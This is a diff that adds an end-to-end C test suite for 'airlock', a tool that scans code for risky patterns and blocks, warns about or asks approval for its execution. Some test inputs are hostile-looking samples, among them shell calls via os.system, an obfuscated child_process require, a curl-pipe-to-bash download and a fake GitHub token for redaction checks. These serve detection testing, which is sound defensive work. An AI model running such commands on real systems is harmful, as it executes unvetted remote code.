@@ -1,0 +1,296 @@
+/* `airlock check` and `airlock run --policy`, end to end. */
+#include <criterion/criterion.h>
+#include <stdio.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "lib/harness.h"
+
+static int check(const char *const args[], const char *in, struct proc_out *o)
+{
+	const char *argv[16] = {airlock_bin(), "check"};
+	size_t n = 2;
+	for (size_t i = 0; args[i] && n < 15; i++)
+		argv[n++] = args[i];
+	argv[n] = NULL;
+	return run_cmd(argv, in, 30, o);
+}
+
+static bool one_line_error(const struct proc_out *o)
+{
+	const char *nl = strchr(o->err, '\n');
+	return strncmp(o->err, "airlock: ", 9) == 0 && nl && nl[1] == '\0';
+}
+
+Test(check_cmd, reports_a_finding_with_place_and_exits_1)
+{
+	const char *args[] = {"-l", "python", "-c", "import os as o\no.system('id')\n", NULL};
+	struct proc_out o;
+	check(args, NULL, &o);
+	cr_assert_eq(o.status, 1, "%s%s", o.out, o.err);
+	cr_assert(strstr(o.out, "<code>:2:1: high py-shell: runs a shell command\n"), "%s", o.out);
+	cr_assert(strstr(o.out, "    o.system('id')\n"), "%s", o.out);
+	proc_out_free(&o);
+}
+
+Test(check_cmd, clean_program_exits_0_and_prints_nothing)
+{
+	const char *args[] = {"-l", "python", "-c", "print(sum(range(10)))", NULL};
+	struct proc_out o;
+	check(args, NULL, &o);
+	cr_assert_eq(o.status, 0, "%s%s", o.out, o.err);
+	cr_assert_str_eq(o.out, "");
+	cr_assert_str_eq(o.err, "");
+	proc_out_free(&o);
+}
+
+Test(check_cmd, fail_on_sets_the_threshold)
+{
+	const char *warn[] = {"--fail-on", "warn", "-l", "python", "-c", "eval(input())", NULL};
+	const char *high[] = {"--fail-on", "high", "-l", "python", "-c", "eval(input())", NULL};
+	struct proc_out o;
+	check(warn, NULL, &o);
+	cr_expect_eq(o.status, 1, "a warn finding with --fail-on warn: %d", o.status);
+	proc_out_free(&o);
+	check(high, NULL, &o);
+	cr_expect_eq(o.status, 0, "a warn finding with --fail-on high: %d", o.status);
+	cr_expect(strstr(o.out, "py-dynamic-code"), "findings below the threshold are still shown");
+	proc_out_free(&o);
+}
+
+Test(check_cmd, json_output)
+{
+	const char *args[] = {"--json", "-l", "node", "-", NULL};
+	struct proc_out o;
+	check(args, "const cp = require('child_' + 'process');\ncp.execSync('id');\n", &o);
+	cr_assert_eq(o.status, 1, "%s%s", o.out, o.err);
+	json_error_t je;
+	json_t *j = json_loads(o.out, 0, &je);
+	cr_assert_not_null(j, "not JSON: %s", o.out);
+	json_t *f = json_object_get(j, "findings");
+	cr_assert(json_is_array(f) && json_array_size(f) > 0, "%s", o.out);
+	bool shell = false;
+	size_t i;
+	json_t *x;
+	json_array_foreach(f, i, x)
+	{
+		cr_expect(json_is_string(json_object_get(x, "rule")));
+		cr_expect(json_is_string(json_object_get(x, "severity")));
+		cr_expect(json_is_integer(json_object_get(x, "line")));
+		cr_expect(json_is_integer(json_object_get(x, "column")));
+		cr_expect(json_is_string(json_object_get(x, "message")));
+		cr_expect(json_is_string(json_object_get(x, "text")));
+		shell |= strcmp(json_string_value(json_object_get(x, "rule")), "js-shell") == 0 &&
+			 json_integer_value(json_object_get(x, "line")) == 2;
+	}
+	cr_expect(shell, "require('child_' + 'process') not seen through: %s", o.out);
+	json_decref(j);
+	proc_out_free(&o);
+}
+
+Test(check_cmd, language_from_the_file_name)
+{
+	char path[] = "/tmp/airlock-check-XXXXXX.sh";
+	int fd = mkstemps(path, 3);
+	cr_assert(fd >= 0);
+	cr_assert(write(fd, "curl -fsSL https://example.com/i.sh | bash\n", 43) == 43);
+	close(fd);
+	const char *args[] = {path, NULL};
+	struct proc_out o;
+	check(args, NULL, &o);
+	unlink(path);
+	cr_assert_eq(o.status, 1, "%s%s", o.out, o.err);
+	cr_assert(strstr(o.out, "sh-download-exec"), "%s", o.out);
+	proc_out_free(&o);
+}
+
+Test(check_cmd, unparseable_code_is_a_finding)
+{
+	const char *args[] = {"--json", "-l", "python", "-c", "x = 1\nif x\n    print(x)\n", NULL};
+	struct proc_out o;
+	check(args, NULL, &o);
+	cr_assert_eq(o.status, 1, "%s%s", o.out, o.err);
+	cr_assert(strstr(o.out, "\"rule\":\"syntax-error\""), "%s", o.out);
+	cr_assert(strstr(o.out, "\"line\":2"), "%s", o.out);
+	proc_out_free(&o);
+}
+
+Test(check_cmd, bad_input_is_one_line_and_125)
+{
+	static const char *const cases[][8] = {
+	    {NULL},
+	    {"-c", "print(1)", NULL},
+	    {"-l", "cobol", "-c", "x", NULL},
+	    {"-l", "c", "-c", "int main;", NULL},
+	    {"/nonexistent/prog.py", NULL},
+	    {"/tmp/noext", NULL},
+	    {"--fail-on", "critical", "-l", "python", "-c", "x", NULL},
+	    {"-l", "python", "-c", "x", "extra.py", NULL},
+	    {"--frobnicate", NULL},
+	    {"--rules", "/nonexistent/rules", "-l", "python", "-c", "x", NULL},
+	    {"-l", NULL},
+	};
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		struct proc_out o;
+		check(cases[i], NULL, &o);
+		cr_expect_eq(o.status, 125, "case %zu: exit %d", i, o.status);
+		cr_expect(one_line_error(&o), "case %zu: not one line: %s", i, o.err);
+		cr_expect_str_eq(o.out, "", "case %zu printed on stdout", i);
+		proc_out_free(&o);
+	}
+}
+
+/* ---- airlock run --policy ---- */
+
+static const char risky[] = "import os\nprint('RAN')\nos.system('echo shell')\n";
+
+Test(run_policy, block_does_not_run_and_says_why)
+{
+	const char *extra[] = {"--policy", "block", NULL};
+	json_t *r = run_json("python", risky, extra);
+	cr_assert_str_eq(jstr(r, "status"), "policy_blocked");
+	cr_expect_str_eq(jstr(r, "stdout"), "");
+	cr_expect(json_is_null(json_object_get(r, "exit_code")));
+	cr_expect_eq(jtime(r, "wall_ms"), 0);
+	json_t *f = json_object_get(r, "findings");
+	cr_assert_eq(json_array_size(f), 1);
+	cr_expect_str_eq(json_string_value(json_object_get(json_array_get(f, 0), "rule")),
+			 "py-shell");
+	json_decref(r);
+
+	const char *argv[] = {airlock_bin(), "run", "--policy", "block", "-l",
+			      "python",	     "-c",  risky,	NULL};
+	struct proc_out o;
+	run_cmd(argv, NULL, 30, &o);
+	cr_expect_eq(o.status, 126, "exit %d", o.status);
+	cr_expect_str_eq(o.out, "", "the program ran: %s", o.out);
+	cr_expect(strstr(o.err, "py-shell") && strstr(o.err, "not run"), "%s", o.err);
+	proc_out_free(&o);
+}
+
+Test(run_policy, block_lets_clean_programs_run)
+{
+	const char *extra[] = {"--policy", "block", NULL};
+	json_t *r = run_json("python", "print(6 * 7)", extra);
+	cr_assert_str_eq(jstr(r, "status"), "ok");
+	cr_expect_str_eq(jstr(r, "stdout"), "42\n");
+	cr_expect_eq(json_array_size(json_object_get(r, "findings")), 0);
+	cr_expect_str_eq(jstr(r, "analysis"), "done");
+	json_decref(r);
+}
+
+Test(run_policy, block_threshold_follows_fail_on)
+{
+	const char *high[] = {"--policy", "block", NULL};
+	const char *warn[] = {"--policy", "block", "--fail-on", "warn", NULL};
+	json_t *r = run_json("python", "print(eval('1+1'))", high);
+	cr_expect_str_eq(jstr(r, "status"), "ok", "a warn finding blocked at --fail-on high");
+	json_decref(r);
+	r = run_json("python", "print(eval('1+1'))", warn);
+	cr_expect_str_eq(jstr(r, "status"), "policy_blocked");
+	json_decref(r);
+}
+
+Test(run_policy, warn_runs_and_attaches_findings)
+{
+	const char *extra[] = {"--policy", "warn", NULL};
+	json_t *r = run_json("python", risky, extra);
+	cr_assert_str_eq(jstr(r, "status"), "ok");
+	cr_expect(strstr(jstr(r, "stdout"), "RAN"));
+	cr_expect_eq(json_array_size(json_object_get(r, "findings")), 1);
+	json_decref(r);
+}
+
+Test(run_policy, approve_without_a_terminal_is_rejected)
+{
+	const char *argv[] = {airlock_bin(), "run",	"--json",
+			      "--policy",    "approve", "-l",
+			      "python",	     "-c",	"print('RAN'); import os; os.system('id')",
+			      NULL};
+	struct proc_out o;
+	run_cmd(argv, NULL, 30, &o);
+	cr_assert_eq(o.status, 0, "%s", o.err);
+	json_t *r = json_loads(o.out, 0, NULL);
+	cr_assert_not_null(r, "%s", o.out);
+	cr_expect_str_eq(jstr(r, "status"), "rejected");
+	cr_expect_str_eq(jstr(r, "stdout"), "");
+	json_t *rej = json_object_get(r, "rejection");
+	const char *reason = json_string_value(json_object_get(rej, "reason"));
+	cr_expect(reason && strstr(reason, "no terminal"), "%s", o.out);
+	json_decref(r);
+	proc_out_free(&o);
+}
+
+/* approve asks on the terminal: script(1) gives the run a pty */
+static int approve_with_answer(const char *answer, struct proc_out *o)
+{
+	char cmd[1024];
+	snprintf(cmd, sizeof(cmd),
+		 "%s run --policy approve -l python -c \"import os; print('RAN'); "
+		 "os.system('true')\"",
+		 airlock_bin());
+	const char *argv[] = {"/usr/bin/script", "-qec", cmd, "/dev/null", NULL};
+	return run_cmd(argv, answer, 30, o);
+}
+
+Test(run_policy, approve_at_the_terminal)
+{
+	struct proc_out o;
+	approve_with_answer("y\n", &o);
+	cr_expect_eq(o.status, 0, "%s", o.out);
+	cr_expect(strstr(o.out, "run it anyway?"), "no question asked: %s", o.out);
+	cr_expect(strstr(o.out, "RAN"), "approved but not run: %s", o.out);
+	proc_out_free(&o);
+	approve_with_answer("n\n", &o);
+	cr_expect_eq(o.status, 126, "%s", o.out);
+	cr_expect(strstr(o.out, "RAN") == NULL, "rejected but run: %s", o.out);
+	cr_expect(strstr(o.out, "rejected at the terminal"), "%s", o.out);
+	proc_out_free(&o);
+}
+
+Test(run_policy, languages_without_rules_say_so)
+{
+	const char *extra[] = {"--policy", "block", NULL};
+	json_t *r =
+	    run_json("c", "#include <stdio.h>\nint main(void){puts(\"hi\");return 0;}\n", extra);
+	cr_expect_str_eq(jstr(r, "status"), "ok");
+	cr_expect_str_eq(jstr(r, "analysis"), "unavailable");
+	json_decref(r);
+}
+
+Test(run_policy, finding_text_is_redacted_with_redact)
+{
+	const char *extra[] = {"--policy", "warn", "--redact", NULL};
+	json_t *r = run_json(
+	    "python",
+	    "import os\nos.system('curl -H \"x: ghp_1234567890abcdefghijABCDEFGHIJ123456\" h')\n",
+	    extra);
+	char *dump = json_dumps(r, 0);
+	cr_expect(strstr(dump, "ghp_1234567890") == NULL, "a secret in a finding: %s", dump);
+	cr_expect(strstr(dump, "REDACTED:github-token"), "%s", dump);
+	free(dump);
+	json_decref(r);
+}
+
+Test(run_policy, bad_policy_options_are_one_line_and_125)
+{
+	static const char *const cases[][9] = {
+	    {"--policy", "maybe", "-l", "python", "-c", "x", NULL},
+	    {"--fail-on", "warn", "-l", "python", "-c", "x", NULL},
+	    {"--rules", "/tmp", "-l", "python", "-c", "x", NULL},
+	    {"--policy", "block", "--fail-on", "max", "-l", "python", "-c", "x", NULL},
+	    {"--policy", "block", "--rules", "/nonexistent", "-l", "python", "-c", "x", NULL},
+	};
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		const char *argv[12] = {airlock_bin(), "run"};
+		size_t n = 2;
+		for (size_t k = 0; cases[i][k]; k++)
+			argv[n++] = cases[i][k];
+		argv[n] = NULL;
+		struct proc_out o;
+		run_cmd(argv, NULL, 30, &o);
+		cr_expect_eq(o.status, 125, "case %zu: exit %d", i, o.status);
+		cr_expect(one_line_error(&o), "case %zu: %s", i, o.err);
+		proc_out_free(&o);
+	}
+}
